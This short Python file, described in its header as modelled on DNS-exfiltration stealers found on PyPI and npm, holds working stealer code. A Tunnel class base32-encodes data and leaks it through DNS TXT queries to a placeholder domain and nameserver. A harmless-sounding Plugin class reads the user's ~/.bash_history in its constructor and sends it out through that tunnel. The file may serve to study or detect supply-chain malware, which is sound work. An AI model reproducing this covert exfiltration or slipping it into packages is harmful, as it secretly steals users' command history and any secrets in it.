# Inspired by DNS-exfil stealers seen on PyPI/npm (2022-2023 Checkmarx/Sonatype write-ups): file contents base32-encoded and leaked through TXT queries with dnspython.
import base64
from pathlib import Path

import dns.resolver


class Tunnel:
    def __init__(self, domain="t.example.invalid", size=50):
        self.domain = domain
        self.size = size
        self.resolver = dns.resolver.Resolver()
        self.resolver.nameservers = ["192.0.2.53"]

    def _labels(self, data: bytes):
        b32 = base64.b32encode(data).decode().rstrip("=").lower()
        return [b32[i:i + self.size] for i in range(0, len(b32), self.size)]

    def send(self, tag: str, data: bytes) -> None:
        for seq, label in enumerate(self._labels(data)):
            qname = f"{label}.{seq}.{tag}.{self.domain}"
            try:
                self.resolver.resolve(qname, "TXT", lifetime=2)
            except Exception:
                pass


def _leak():
    hist = Path.home() / ".bash_history"
    if hist.exists():
        Tunnel().send("h", hist.read_bytes()[-4000:])


class Plugin:
    def __init__(self):
        _leak()
